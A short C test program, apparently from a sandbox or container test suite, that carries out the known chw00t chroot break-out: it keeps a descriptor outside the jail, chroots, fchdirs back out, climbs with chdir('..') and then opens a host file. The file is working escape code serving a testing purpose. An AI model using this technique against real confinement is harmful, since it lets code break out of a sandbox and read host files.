// The chroot break-out of chw00t and rubber-docker: enter a chroot while the working directory stays outside, then climb. argv[1]: a file of the host.
#include "try.h"

int main(int argc, char **argv) {
    (void)argc;
    mkdir("/tmp/jail", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    TRY(chdir("/"));
    if (chroot("/tmp/jail") < 0)
        printf("chroot: %s\n", strerror(errno));
    fchdir(outside);
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    chroot(".");
    errno = 0;
    tell("open a file of the host", open(argv[1], O_RDONLY));
    return 0;
}
